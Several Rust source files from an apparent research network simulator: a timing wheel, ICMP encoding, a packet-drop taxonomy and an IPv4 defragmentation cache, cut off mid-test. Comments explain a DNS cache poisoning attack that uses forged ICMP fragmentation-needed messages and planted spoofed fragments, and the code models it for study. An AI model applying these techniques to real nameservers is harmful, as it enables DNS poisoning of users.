                let Some(Reverse(OverflowEntry(e))) = self.overflow.pop() else { unreachable!() };
                self.insert(e);
            }
            // `first` sits in `ready` now; the outer loop returns it.
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::time::SimDuration;

    fn drain(w: &mut TimingWheel<u32>) -> Vec<(u64, u32)> {
        let mut out = Vec::new();
        while let Some((at, v)) = w.pop() {
            out.push((at.as_nanos(), v));
        }
        out
    }

    #[test]
    fn pops_in_time_order_across_levels() {
        let mut w = TimingWheel::new();
        // Nanoseconds spanning level 0 through the overflow.
        let times: [u64; 8] =
            [5, 40_000, 9_000_000, 3_000_000_000, 86_400_000_000_000, u64::MAX, 0, 1];
        for (i, &t) in times.iter().enumerate() {
            w.schedule(SimTime::from_nanos(t), i as u32);
        }
        assert_eq!(w.len(), 8);
        let mut sorted: Vec<u64> = times.to_vec();
        sorted.sort_unstable();
        let popped = drain(&mut w);
        assert_eq!(popped.iter().map(|&(t, _)| t).collect::<Vec<_>>(), sorted);
        assert!(w.is_empty());
    }

    #[test]
    fn same_instant_pops_in_schedule_order() {
        let mut w = TimingWheel::new();
        let t = SimTime::from_secs(2);
        for i in 0..100u32 {
            w.schedule(t, i);
        }
        let popped = drain(&mut w);
        assert_eq!(
            popped.iter().map(|&(_, v)| v).collect::<Vec<_>>(),
            (0..100).collect::<Vec<_>>()
        );
    }

    #[test]
    fn interleaved_schedule_and_pop_keeps_order() {
        // Simulation pattern: every popped event schedules a follow-up one
        // link-latency ahead; times must come out non-decreasing.
        let mut w = TimingWheel::new();
        w.schedule(SimTime::ZERO, 0);
        let mut last = SimTime::ZERO;
        let mut hops = 0u32;
        while let Some((at, v)) = w.pop() {
            assert!(at >= last, "time went backwards: {at} < {last}");
            last = at;
            hops += 1;
            if hops < 10_000 {
                w.schedule(at + SimDuration::from_millis(5), v + 1);
            }
        }
        assert_eq!(hops, 10_000);
        assert_eq!(last, SimTime::ZERO + SimDuration::from_millis(5 * 9_999));
    }

    #[test]
    fn peek_matches_pop_and_is_stable() {
        let mut w = TimingWheel::new();
        w.schedule(SimTime::from_secs(5), 1);
        w.schedule(SimTime::from_nanos(1_000_000), 2);
        assert_eq!(w.peek(), Some(SimTime::from_nanos(1_000_000)));
        assert_eq!(w.peek(), Some(SimTime::from_nanos(1_000_000)));
        assert_eq!(w.pop(), Some((SimTime::from_nanos(1_000_000), 2)));
        assert_eq!(w.peek(), Some(SimTime::from_secs(5)));
        assert_eq!(w.pop(), Some((SimTime::from_secs(5), 1)));
        assert_eq!(w.peek(), None);
        assert_eq!(w.pop(), None);
    }

    #[test]
    fn schedule_into_the_past_still_pops_first() {
        let mut w = TimingWheel::new();
        w.schedule(SimTime::from_secs(10), 1);
        assert_eq!(w.pop(), Some((SimTime::from_secs(10), 1)));
        // The cursor now sits at t=10 s; an earlier instant must still pop
        // before anything later (heap semantics).
        w.schedule(SimTime::from_secs(20), 2);
        w.schedule(SimTime::from_secs(1), 3);
        assert_eq!(w.pop(), Some((SimTime::from_secs(1), 3)));
        assert_eq!(w.pop(), Some((SimTime::from_secs(20), 2)));
    }

    #[test]
    fn overflow_epoch_migration_preserves_order() {
        let mut w = TimingWheel::new();
        // Two events in a far epoch (beyond 2^61 ns), one nearby.
        let far = 1u64 << 62;
        w.schedule(SimTime::from_nanos(far + 1_000_000), 1);
        w.schedule(SimTime::from_nanos(far), 2);
        w.schedule(SimTime::from_secs(1), 3);
        assert_eq!(w.pop(), Some((SimTime::from_secs(1), 3)));
        assert_eq!(w.pop(), Some((SimTime::from_nanos(far), 2)));
        assert_eq!(w.pop(), Some((SimTime::from_nanos(far + 1_000_000), 1)));
        assert!(w.is_empty());
    }
}
