//! ICMP messages, primarily Destination Unreachable / Fragmentation Needed
//! (type 3, code 4) — the message an attacker forges to trick a nameserver
//! into fragmenting its DNS responses (paper §III-1).

use core::fmt;

use bytes::{BufMut, Bytes, BytesMut};

use crate::checksum;
use crate::error::WireError;

/// An ICMP message relevant to the simulation.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub enum IcmpMessage {
    /// Destination Unreachable — Fragmentation Needed and DF set
    /// (type 3, code 4, RFC 1191). Tells the sender of `original` that the
    /// path MTU towards the destination is `mtu`.
    FragmentationNeeded {
        /// The next-hop MTU being advertised.
        mtu: u16,
        /// The embedded IP header + first 8 payload bytes of the packet
        /// that allegedly did not fit.
        original: Bytes,
    },
    /// Echo request (type 8), used by scanners to sample IPID counters.
    EchoRequest {
        /// Identifier.
        id: u16,
        /// Sequence number.
        seq: u16,
    },
    /// Echo reply (type 0).
    EchoReply {
        /// Identifier echoed from the request.
        id: u16,
        /// Sequence number echoed from the request.
        seq: u16,
    },
}

impl IcmpMessage {
    /// Encodes the message to wire bytes with a valid ICMP checksum.
    pub fn encode(&self) -> Bytes {
        let mut buf = BytesMut::new();
        match self {
            IcmpMessage::FragmentationNeeded { mtu, original } => {
                buf.put_u8(3); // type: destination unreachable
                buf.put_u8(4); // code: fragmentation needed and DF set
                buf.put_u16(0); // checksum placeholder
                buf.put_u16(0); // unused
                buf.put_u16(*mtu);
                buf.put_slice(original);
            }
            IcmpMessage::EchoRequest { id, seq } => {
                buf.put_u8(8);
                buf.put_u8(0);
                buf.put_u16(0);
                buf.put_u16(*id);
                buf.put_u16(*seq);
            }
            IcmpMessage::EchoReply { id, seq } => {
                buf.put_u8(0);
                buf.put_u8(0);
                buf.put_u16(0);
                buf.put_u16(*id);
                buf.put_u16(*seq);
            }
        }
        let ck = checksum::checksum(&buf);
        buf[2..4].copy_from_slice(&ck.to_be_bytes());
        buf.freeze()
    }

    /// Decodes wire bytes, verifying the ICMP checksum.
    ///
    /// # Errors
    ///
    /// Returns [`WireError`] on truncation, checksum failure, or an ICMP
    /// type/code this simulator does not model.
    pub fn decode(data: &[u8]) -> Result<IcmpMessage, WireError> {
        if data.len() < 8 {
            return Err(WireError::Truncated { needed: 8, got: data.len() });
        }
        if !checksum::verify(data) {
            return Err(WireError::BadChecksum { layer: "icmp" });
        }
        match (data[0], data[1]) {
            (3, 4) => Ok(IcmpMessage::FragmentationNeeded {
                mtu: u16::from_be_bytes([data[6], data[7]]),
                original: Bytes::copy_from_slice(&data[8..]),
            }),
            (8, 0) => Ok(IcmpMessage::EchoRequest {
                id: u16::from_be_bytes([data[4], data[5]]),
                seq: u16::from_be_bytes([data[6], data[7]]),
            }),
            (0, 0) => Ok(IcmpMessage::EchoReply {
                id: u16::from_be_bytes([data[4], data[5]]),
                seq: u16::from_be_bytes([data[6], data[7]]),
            }),
            _ => Err(WireError::BadField { field: "icmp type/code" }),
        }
    }
}

impl fmt::Display for IcmpMessage {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            IcmpMessage::FragmentationNeeded { mtu, .. } => {
                write!(f, "ICMP frag-needed mtu={mtu}")
            }
            IcmpMessage::EchoRequest { id, seq } => write!(f, "ICMP echo-req id={id} seq={seq}"),
            IcmpMessage::EchoReply { id, seq } => write!(f, "ICMP echo-rep id={id} seq={seq}"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frag_needed_round_trip() {
        let msg = IcmpMessage::FragmentationNeeded {
            mtu: 548,
            original: Bytes::from_static(&[0x45, 0, 0, 28, 0, 0, 0, 0, 64, 17, 0, 0]),
        };
        let wire = msg.encode();
        assert_eq!(IcmpMessage::decode(&wire).unwrap(), msg);
    }

    #[test]
    fn echo_round_trip() {
        for msg in
            [IcmpMessage::EchoRequest { id: 77, seq: 3 }, IcmpMessage::EchoReply { id: 77, seq: 3 }]
        {
            assert_eq!(IcmpMessage::decode(&msg.encode()).unwrap(), msg);
        }
    }

    #[test]
    fn corrupted_checksum_rejected() {
        let wire = IcmpMessage::EchoRequest { id: 1, seq: 1 }.encode();
        let mut bad = wire.to_vec();
        bad[4] ^= 0xFF;
        assert!(matches!(IcmpMessage::decode(&bad), Err(WireError::BadChecksum { .. })));
    }

    #[test]
    fn unknown_type_rejected() {
        let mut raw = vec![13u8, 0, 0, 0, 0, 0, 0, 0];
        let ck = checksum::checksum(&raw);
        raw[2..4].copy_from_slice(&ck.to_be_bytes());
        assert!(matches!(IcmpMessage::decode(&raw), Err(WireError::BadField { .. })));
    }
}
