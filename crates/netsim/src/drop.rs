//! The drop/outcome taxonomy of the receive path.
//!
//! Every branch of [`NetStack::receive`](crate::sim::NetStack) that
//! discards a packet names exactly one [`DropReason`]; the counts are kept
//! per host ([`NetStack::drop_counts`](crate::sim::NetStack::drop_counts))
//! and aggregated incrementally into
//! [`SimStats::drops`](crate::sim::SimStats) — no silent drops. The paper's
//! attack chain is diagnosed from these: a failed poisoning trial explains
//! itself as "defrag cap full" vs "checksum caught the forgery" vs "the
//! planted fragment expired" without re-running under a debugger.

/// Why the receive path discarded a packet.
///
/// The numeric code (`as u16`) rides trace events as the
/// [`obs::kind::DROP`] operand, so a dumped flight-recorder ring names the
/// same taxonomy.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, serde::Serialize)]
#[repr(u16)]
pub enum DropReason {
    /// The host's OS profile does not accept fragments at all.
    NoFragSupport = 1,
    /// A non-final fragment below the profile's minimum size (the
    /// tiny-fragment filtering of Table V resolvers).
    TinyFragment = 2,
    /// The per-(src, dst) defrag cache cap was reached (64 on Linux / 100
    /// on Windows, paper §III-2).
    DefragCapFull = 3,
    /// A fragment for an already-covered byte range under `FirstWins`.
    DuplicateFragment = 4,
    /// A pending reassembly hit its timeout; its stored fragments were
    /// discarded (counted once per expired reassembly entry).
    DefragExpired = 5,
    /// UDP payload shorter than the UDP header.
    UdpTruncated = 6,
    /// UDP declared length disagreed with the buffer.
    UdpLengthMismatch = 7,
    /// The UDP pseudo-header checksum failed — the verification that a
    /// spoofed-fragment forgery without a checksum fix-up dies on.
    UdpBadChecksum = 8,
    /// An ICMP payload that did not decode.
    IcmpMalformed = 9,
    /// An IPv4 protocol number this stack does not model.
    UnknownProtocol = 10,
}

impl DropReason {
    /// Stable code for trace events and dumps.
    pub fn code(self) -> u16 {
        self as u16
    }

    /// Whether this reason is a UDP verification failure (the
    /// checksum/length defence, not a fragment-cache outcome).
    pub fn is_verify(self) -> bool {
        matches!(
            self,
            DropReason::UdpTruncated | DropReason::UdpLengthMismatch | DropReason::UdpBadChecksum
        )
    }

    /// Human-readable label (docs table, ring dumps).
    pub fn label(self) -> &'static str {
        match self {
            DropReason::NoFragSupport => "no-frag-support",
            DropReason::TinyFragment => "tiny-fragment",
            DropReason::DefragCapFull => "defrag-cap-full",
            DropReason::DuplicateFragment => "duplicate-fragment",
            DropReason::DefragExpired => "defrag-expired",
            DropReason::UdpTruncated => "udp-truncated",
            DropReason::UdpLengthMismatch => "udp-length-mismatch",
            DropReason::UdpBadChecksum => "udp-bad-checksum",
            DropReason::IcmpMalformed => "icmp-malformed",
            DropReason::UnknownProtocol => "unknown-protocol",
        }
    }
}

/// Exhaustive per-reason drop counters.
///
/// Plain named `u64` fields (not a map): bumping one is a single add on the
/// hot path, the struct is `Copy` for O(1) stats snapshots, and
/// serialization names every reason even when zero.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, serde::Serialize)]
pub struct DropCounts {
    /// [`DropReason::NoFragSupport`] drops.
    pub no_frag_support: u64,
    /// [`DropReason::TinyFragment`] drops.
    pub tiny_fragment: u64,
    /// [`DropReason::DefragCapFull`] drops.
    pub defrag_cap_full: u64,
    /// [`DropReason::DuplicateFragment`] drops.
    pub duplicate_fragment: u64,
    /// [`DropReason::DefragExpired`] reassembly entries.
    pub defrag_expired: u64,
    /// [`DropReason::UdpTruncated`] drops.
    pub udp_truncated: u64,
    /// [`DropReason::UdpLengthMismatch`] drops.
    pub udp_length_mismatch: u64,
    /// [`DropReason::UdpBadChecksum`] drops.
    pub udp_bad_checksum: u64,
    /// [`DropReason::IcmpMalformed`] drops.
    pub icmp_malformed: u64,
    /// [`DropReason::UnknownProtocol`] drops.
    pub unknown_protocol: u64,
}

impl DropCounts {
    /// Increments the counter for `reason`.
    #[inline]
    pub fn bump(&mut self, reason: DropReason) {
        *self.slot(reason) += 1;
    }

    /// Adds `n` to the counter for `reason`.
    #[inline]
    pub fn add(&mut self, reason: DropReason, n: u64) {
        *self.slot(reason) += n;
    }

    fn slot(&mut self, reason: DropReason) -> &mut u64 {
        match reason {
            DropReason::NoFragSupport => &mut self.no_frag_support,
            DropReason::TinyFragment => &mut self.tiny_fragment,
            DropReason::DefragCapFull => &mut self.defrag_cap_full,
            DropReason::DuplicateFragment => &mut self.duplicate_fragment,
            DropReason::DefragExpired => &mut self.defrag_expired,
            DropReason::UdpTruncated => &mut self.udp_truncated,
            DropReason::UdpLengthMismatch => &mut self.udp_length_mismatch,
            DropReason::UdpBadChecksum => &mut self.udp_bad_checksum,
            DropReason::IcmpMalformed => &mut self.icmp_malformed,
            DropReason::UnknownProtocol => &mut self.unknown_protocol,
        }
    }

    /// The count for one reason.
    pub fn get(&self, reason: DropReason) -> u64 {
        match reason {
            DropReason::NoFragSupport => self.no_frag_support,
            DropReason::TinyFragment => self.tiny_fragment,
            DropReason::DefragCapFull => self.defrag_cap_full,
            DropReason::DuplicateFragment => self.duplicate_fragment,
            DropReason::DefragExpired => self.defrag_expired,
            DropReason::UdpTruncated => self.udp_truncated,
            DropReason::UdpLengthMismatch => self.udp_length_mismatch,
            DropReason::UdpBadChecksum => self.udp_bad_checksum,
            DropReason::IcmpMalformed => self.icmp_malformed,
            DropReason::UnknownProtocol => self.unknown_protocol,
        }
    }

    /// Drops attributable to the fragment/reassembly machinery.
    pub fn frag_drops(&self) -> u64 {
        self.no_frag_support
            + self.tiny_fragment
            + self.defrag_cap_full
            + self.duplicate_fragment
            + self.defrag_expired
    }

    /// Drops attributable to UDP verification (checksum/length defence).
    pub fn verify_drops(&self) -> u64 {
        self.udp_truncated + self.udp_length_mismatch + self.udp_bad_checksum
    }

    /// All counted drops.
    pub fn total(&self) -> u64 {
        self.frag_drops() + self.verify_drops() + self.icmp_malformed + self.unknown_protocol
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const ALL: [DropReason; 10] = [
        DropReason::NoFragSupport,
        DropReason::TinyFragment,
        DropReason::DefragCapFull,
        DropReason::DuplicateFragment,
        DropReason::DefragExpired,
        DropReason::UdpTruncated,
        DropReason::UdpLengthMismatch,
        DropReason::UdpBadChecksum,
        DropReason::IcmpMalformed,
        DropReason::UnknownProtocol,
    ];

    #[test]
    fn every_reason_has_a_distinct_code_and_slot() {
        let mut counts = DropCounts::default();
        let mut codes = Vec::new();
        for (i, r) in ALL.iter().enumerate() {
            counts.add(*r, i as u64 + 1);
            codes.push(r.code());
        }
        codes.sort_unstable();
        codes.dedup();
        assert_eq!(codes.len(), ALL.len(), "codes must be unique");
        for (i, r) in ALL.iter().enumerate() {
            assert_eq!(counts.get(*r), i as u64 + 1, "slot for {:?}", r);
        }
        assert_eq!(counts.total(), (1..=ALL.len() as u64).sum::<u64>());
    }

    #[test]
    fn category_sums_partition_the_total() {
        let mut counts = DropCounts::default();
        for r in ALL {
            counts.bump(r);
        }
        assert_eq!(counts.frag_drops(), 5);
        assert_eq!(counts.verify_drops(), 3);
        assert_eq!(counts.total(), 10);
        assert!(DropReason::UdpBadChecksum.is_verify());
        assert!(!DropReason::DefragCapFull.is_verify());
    }
}
