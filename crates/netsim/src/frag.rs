//! IPv4 fragmentation and the receiver-side defragmentation cache.
//!
//! The defragmentation cache is the attack surface of the paper's poisoning
//! primitive (§III-2): an off-path attacker plants a spoofed *second*
//! fragment keyed by `(src, dst, protocol, IPID)`; when the nameserver's
//! real *first* fragment arrives it reassembles with the planted one. The
//! cache models the behaviours the paper measured: reassembly timeouts of
//! 30 s (Linux) and 60–120 s (Windows), and caps of 64 / 100 concurrently
//! pending fragments.
// simlint: hot-path — fragment/insert/reassemble run per packet; the
// zero-clone contract (PR 3) lives here.

use std::collections::VecDeque;
use std::net::Ipv4Addr;

use bytes::{Bytes, BytesMut};

use crate::error::FragmentError;
use crate::fasthash::FastMap;
use crate::ipv4::{Ipv4Packet, IPV4_HEADER_LEN, MIN_IPV4_MTU};
use crate::time::{SimDuration, SimTime};

/// Splits `pkt` into fragments no larger than `mtu` on-wire bytes.
///
/// Fragment payload sizes are multiples of 8 bytes except for the last
/// fragment, per RFC 791. Returns the packet unchanged (in a 1-vector) if
/// it already fits — taking the packet by value makes that fast path (and
/// the per-fragment construction) clone-free: the header fields are built
/// once from the consumed packet and every fragment's payload is a
/// zero-copy slice of the shared payload buffer.
///
/// # Errors
///
/// * [`FragmentError::MtuTooSmall`] if `mtu < 68`.
/// * [`FragmentError::DontFragment`] if DF is set and the packet does not fit.
/// * [`FragmentError::AlreadyFragmented`] if `pkt` is itself a fragment.
pub fn fragment(pkt: Ipv4Packet, mtu: u16) -> Result<Vec<Ipv4Packet>, FragmentError> {
    // simlint: allow(hot-alloc) — convenience wrapper for tests/examples;
    // the send path uses `fragment_into` with a reused caller buffer.
    let mut frags = Vec::new();
    fragment_into(pkt, mtu, &mut frags)?;
    Ok(frags)
}

/// [`fragment`] into a caller-supplied buffer (appended, not cleared):
/// the simulator's send path reuses one buffer across sends, so steady
/// state fragmentation allocates nothing.
///
/// # Errors
///
/// Same as [`fragment`]; on error nothing is appended.
pub fn fragment_into(
    pkt: Ipv4Packet,
    mtu: u16,
    out: &mut Vec<Ipv4Packet>,
) -> Result<(), FragmentError> {
    if mtu < MIN_IPV4_MTU {
        return Err(FragmentError::MtuTooSmall { mtu });
    }
    if pkt.is_fragment() {
        return Err(FragmentError::AlreadyFragmented);
    }
    if pkt.wire_len() <= usize::from(mtu) {
        out.push(pkt);
        return Ok(());
    }
    if pkt.dont_fragment {
        return Err(FragmentError::DontFragment { len: pkt.wire_len(), mtu });
    }
    // Payload bytes per fragment, rounded down to a multiple of 8.
    let per_frag = (usize::from(mtu) - IPV4_HEADER_LEN) & !7;
    let Ipv4Packet { src, dst, id, ttl, protocol, payload, .. } = pkt;
    out.reserve(payload.len().div_ceil(per_frag));
    let mut offset = 0usize;
    while offset < payload.len() {
        let end = usize::min(offset + per_frag, payload.len());
        out.push(Ipv4Packet {
            src,
            dst,
            id,
            ttl,
            protocol,
            dont_fragment: false,
            more_fragments: end != payload.len(),
            frag_offset: (offset / 8) as u16,
            payload: payload.slice(offset..end),
        });
        offset = end;
    }
    Ok(())
}

/// Key identifying the fragments of one original datagram.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct FragKey {
    /// Source address on the fragments.
    pub src: Ipv4Addr,
    /// Destination address on the fragments.
    pub dst: Ipv4Addr,
    /// Transport protocol.
    pub protocol: u8,
    /// The shared identification field.
    pub id: u16,
}

impl FragKey {
    /// Extracts the key from a fragment.
    pub fn of(pkt: &Ipv4Packet) -> FragKey {
        FragKey { src: pkt.src, dst: pkt.dst, protocol: pkt.protocol, id: pkt.id }
    }
}

/// What the cache does when two fragments claim the same byte range.
///
/// Real stacks differ; the attack relies on the planted spoofed fragment
/// surviving, which holds under [`DuplicatePolicy::FirstWins`] (the planted
/// fragment arrives *before* the real one). The alternative is provided for
/// the ablation study.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, serde::Serialize, serde::Deserialize)]
pub enum DuplicatePolicy {
    /// Keep the earlier-arrived fragment (classic BSD/Linux behaviour).
    #[default]
    FirstWins,
    /// Let a later fragment overwrite an earlier duplicate.
    LastWins,
}

/// Tuning knobs of a [`DefragCache`], matching an OS profile.
#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub struct DefragConfig {
    /// How long incomplete reassemblies are retained. Linux: 30 s;
    /// Windows: 60–120 s; RFC 2460 suggests 60 s (paper §IV-A).
    pub timeout: SimDuration,
    /// Maximum concurrently-pending fragments per (src, dst) pair.
    /// Linux: 64, Windows: 100 (paper §III-2).
    pub max_pending_per_pair: usize,
    /// Duplicate-range resolution policy.
    pub duplicate_policy: DuplicatePolicy,
}

impl Default for DefragConfig {
    fn default() -> Self {
        DefragConfig {
            timeout: SimDuration::from_secs(30),
            max_pending_per_pair: 64,
            duplicate_policy: DuplicatePolicy::FirstWins,
        }
    }
}

/// Outcome of one [`DefragCache::insert_explained`] call.
///
/// Names what the cache did with the inserted packet so the receive path
/// can count its drops ([`crate::drop::DropReason`]) instead of collapsing
/// "stored, waiting for more" and "silently discarded" into one `None`.
#[derive(Debug)]
pub enum FragInsert {
    /// Not a fragment: the packet passed straight through untouched.
    Passthrough(Ipv4Packet),
    /// The fragment completed its datagram; here is the reassembly.
    Reassembled(Ipv4Packet),
    /// The fragment was stored; the reassembly is still incomplete.
    Stored,
    /// Dropped: the per-(src, dst) pending cap is full.
    CapFull,
    /// Dropped: an already-covered byte range under
    /// [`DuplicatePolicy::FirstWins`].
    Duplicate,
}

#[derive(Debug)]
struct StoredFrag {
    offset: usize,
    more: bool,
    data: Bytes,
}

#[derive(Debug)]
struct Entry {
    fragments: Vec<StoredFrag>,
    created: SimTime,
}

/// A receiver-side IPv4 reassembly cache.
///
/// ```
/// use bytes::Bytes;
/// use netsim::frag::{fragment, DefragCache, DefragConfig};
/// use netsim::ipv4::Ipv4Packet;
/// use netsim::time::SimTime;
///
/// let pkt = Ipv4Packet::udp(
///     "10.0.0.1".parse().unwrap(),
///     "10.0.0.2".parse().unwrap(),
///     7,
///     Bytes::from(vec![0xAB; 2000]),
/// );
/// let frags = fragment(pkt.clone(), 576).unwrap();
/// let mut cache = DefragCache::new(DefragConfig::default());
/// let mut out = None;
/// for f in frags {
///     out = cache.insert(SimTime::ZERO, f);
/// }
/// assert_eq!(out.unwrap().payload, pkt.payload);
/// ```
#[derive(Debug)]
pub struct DefragCache {
    config: DefragConfig,
    entries: FastMap<FragKey, Entry>,
    /// Count of pending fragments per (src, dst), enforcing the OS cap.
    pending: FastMap<(Ipv4Addr, Ipv4Addr), usize>,
    /// Creation-time-ordered ring of reassembly entries: [`expire`]
    /// pops expired entries off the front instead of scanning the whole
    /// table. Entries completed (or replaced under the same key) before
    /// their timeout are left in the ring as stale markers and skipped.
    ///
    /// Invariant: insert times are non-decreasing — the simulator's clock
    /// is monotonic. Out-of-order direct inserts merely delay expiry of
    /// entries queued behind a younger head.
    ///
    /// [`expire`]: DefragCache::expire
    expiry: VecDeque<(SimTime, FragKey)>,
    /// Pooled offset-order scratch for reassembly: indices into an entry's
    /// fragment list, reused across inserts so a completion check never
    /// allocates a temporary sort vector. (The assembled payload itself is
    /// necessarily a fresh buffer — it escapes as the delivered packet,
    /// frozen zero-copy.)
    order: Vec<u32>,
}

impl DefragCache {
    /// Creates an empty cache with the given configuration.
    pub fn new(config: DefragConfig) -> Self {
        DefragCache {
            config,
            entries: FastMap::default(),
            pending: FastMap::default(),
            expiry: VecDeque::new(),
            // simlint: allow(hot-alloc) — cold constructor: one cache per
            // host, built before the event loop starts.
            order: Vec::new(),
        }
    }

    /// Number of distinct pending reassemblies.
    pub fn pending_reassemblies(&self) -> usize {
        self.entries.len()
    }

    /// Number of pending fragments for a given (src, dst) pair.
    pub fn pending_for_pair(&self, src: Ipv4Addr, dst: Ipv4Addr) -> usize {
        self.pending.get(&(src, dst)).copied().unwrap_or(0)
    }

    /// Inserts a fragment at time `now`. If this completes a datagram,
    /// returns the reassembled (unfragmented) packet and clears the entry.
    ///
    /// Takes the packet by value: non-fragments pass straight through
    /// (zero-copy, zero-clone) and fragments move their payload into the
    /// cache. Expired entries are garbage collected lazily on every insert.
    ///
    /// Convenience wrapper over [`DefragCache::insert_explained`], which
    /// additionally names why a fragment did *not* come out (stored vs
    /// cap-dropped vs duplicate) and how many entries expired.
    pub fn insert(&mut self, now: SimTime, pkt: Ipv4Packet) -> Option<Ipv4Packet> {
        match self.insert_explained(now, pkt).0 {
            FragInsert::Passthrough(p) | FragInsert::Reassembled(p) => Some(p),
            FragInsert::Stored | FragInsert::CapFull | FragInsert::Duplicate => None,
        }
    }

    /// [`DefragCache::insert`] with an explained outcome: what happened to
    /// the inserted packet, plus how many pending reassemblies expired
    /// during the lazy garbage collection this insert ran first (their
    /// stored fragments are gone — the drop-taxonomy caller counts them).
    pub fn insert_explained(&mut self, now: SimTime, pkt: Ipv4Packet) -> (FragInsert, usize) {
        let expired = self.expire_counted(now);
        if !pkt.is_fragment() {
            return (FragInsert::Passthrough(pkt), expired);
        }
        let key = FragKey::of(&pkt);
        let pair = (pkt.src, pkt.dst);
        let pending = self.pending.entry(pair).or_insert(0);
        if *pending >= self.config.max_pending_per_pair {
            // Cache full for this pair: the fragment is dropped, exactly the
            // limit the paper cites (64 on Linux / 100 on Windows).
            return (FragInsert::CapFull, expired);
        }
        let expiry = &mut self.expiry;
        let entry = self.entries.entry(key).or_insert_with(|| {
            expiry.push_back((now, key));
            // simlint: allow(hot-alloc) — `Vec::new` itself never touches
            // the heap; the list grows on push, which the defrag-churn
            // bench scores (fragments are zero-copy `Bytes` slices).
            Entry { fragments: Vec::new(), created: now }
        });
        let ttl = pkt.ttl;
        let new_frag = StoredFrag {
            offset: pkt.payload_offset(),
            more: pkt.more_fragments,
            data: pkt.payload,
        };
        let mut duplicate = false;
        match entry.fragments.iter_mut().find(|f| f.offset == new_frag.offset) {
            Some(existing) => {
                if self.config.duplicate_policy == DuplicatePolicy::LastWins {
                    *existing = new_frag;
                } else {
                    // FirstWins: planted fragment survives; the duplicate is
                    // discarded without counting against the pair cap. The
                    // entry is unchanged, so it cannot have become complete
                    // (a complete entry would have been removed already).
                    duplicate = true;
                }
            }
            None => {
                entry.fragments.push(new_frag);
                *pending += 1;
            }
        }
        if duplicate {
            return (FragInsert::Duplicate, expired);
        }
        if let Some(payload) = try_reassemble(&entry.fragments, &mut self.order) {
            let n = entry.fragments.len();
            self.entries.remove(&key);
            Self::debit(&mut self.pending, pair, n);
            let reassembled = Ipv4Packet {
                more_fragments: false,
                frag_offset: 0,
                payload,
                src: key.src,
                dst: key.dst,
                id: key.id,
                protocol: key.protocol,
                ttl,
                dont_fragment: false,
            };
            return (FragInsert::Reassembled(reassembled), expired);
        }
        (FragInsert::Stored, expired)
    }

    /// Drops reassemblies older than the configured timeout.
    pub fn expire(&mut self, now: SimTime) {
        let _ = self.expire_counted(now);
    }

    /// [`DefragCache::expire`], returning how many reassembly entries were
    /// dropped (each with all its stored fragments).
    ///
    /// O(expired) per call: the expiry ring is ordered by creation time, so
    /// this pops expired entries off the front and never scans the live
    /// remainder of the table.
    pub fn expire_counted(&mut self, now: SimTime) -> usize {
        let timeout = self.config.timeout;
        let mut dropped = 0;
        while let Some(&(created, key)) = self.expiry.front() {
            if now.saturating_since(created) < timeout {
                break;
            }
            self.expiry.pop_front();
            // Stale marker: the entry completed earlier, or the key was
            // re-created by a younger reassembly (its own marker follows).
            let live = self.entries.get(&key).is_some_and(|e| e.created == created);
            if live {
                let entry = self.entries.remove(&key).expect("checked above");
                Self::debit(&mut self.pending, (key.src, key.dst), entry.fragments.len());
                dropped += 1;
            }
        }
        dropped
    }

    fn debit(
        pending: &mut FastMap<(Ipv4Addr, Ipv4Addr), usize>,
        pair: (Ipv4Addr, Ipv4Addr),
        n: usize,
    ) {
        if let Some(count) = pending.get_mut(&pair) {
            *count = count.saturating_sub(n);
            if *count == 0 {
                pending.remove(&pair);
            }
        }
    }
}

/// Attempts to assemble a complete payload from stored fragments: requires a
/// final fragment (`more == false`) and gap-free coverage from offset 0.
///
/// `order` is the cache's pooled index scratch (sorted by offset, stable —
/// equal offsets keep arrival order), so a completion check allocates
/// nothing; only a *successful* reassembly builds the output buffer, which
/// escapes as the delivered payload via a zero-copy freeze.
fn try_reassemble(fragments: &[StoredFrag], order: &mut Vec<u32>) -> Option<Bytes> {
    let total = fragments.iter().find(|f| !f.more).map(|f| f.offset + f.data.len())?;
    order.clear();
    order.extend(0..fragments.len() as u32);
    order.sort_by_key(|&i| fragments[i as usize].offset);
    let mut covered = 0usize;
    for &i in order.iter() {
        let f = &fragments[i as usize];
        if f.offset > covered {
            return None; // gap
        }
        covered = covered.max(f.offset + f.data.len());
    }
    if covered < total {
        return None;
    }
    let mut assembly = BytesMut::with_capacity(total);
    assembly.resize(total, 0);
    // Write in reverse arrival-order so earlier fragments win overlaps
    // (matching FirstWins duplicate handling for partial overlaps too).
    for &i in order.iter().rev() {
        let f = &fragments[i as usize];
        let end = usize::min(f.offset + f.data.len(), total);
        if f.offset < total {
            assembly[f.offset..end].copy_from_slice(&f.data[..end - f.offset]);
        }
    }
    Some(assembly.freeze())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn pkt(payload_len: usize, id: u16) -> Ipv4Packet {
        Ipv4Packet::udp(
            Ipv4Addr::new(10, 0, 0, 1),
            Ipv4Addr::new(10, 0, 0, 2),
            id,
            Bytes::from((0..payload_len).map(|i| (i % 251) as u8).collect::<Vec<_>>()),
        )
    }

    #[test]
    fn small_packet_not_fragmented() {
        let p = pkt(100, 1);
        let frags = fragment(p.clone(), 576).unwrap();
        assert_eq!(frags.len(), 1);
        assert_eq!(frags[0], p);
    }

    #[test]
    fn fragment_sizes_respect_mtu_and_alignment() {
        let p = pkt(3000, 2);
        let frags = fragment(p.clone(), 576).unwrap();
        assert!(frags.len() >= 2);
        for (i, f) in frags.iter().enumerate() {
            assert!(f.wire_len() <= 576);
            let last = i == frags.len() - 1;
            assert_eq!(f.more_fragments, !last);
            if !last {
                assert_eq!(f.payload.len() % 8, 0);
            }
        }
    }

    #[test]
    fn reassembly_out_of_order() {
        let p = pkt(2500, 3);
        let mut frags = fragment(p.clone(), 576).unwrap();
        frags.reverse();
        let mut cache = DefragCache::new(DefragConfig::default());
        let mut done = None;
        for f in frags {
            done = cache.insert(SimTime::ZERO, f);
        }
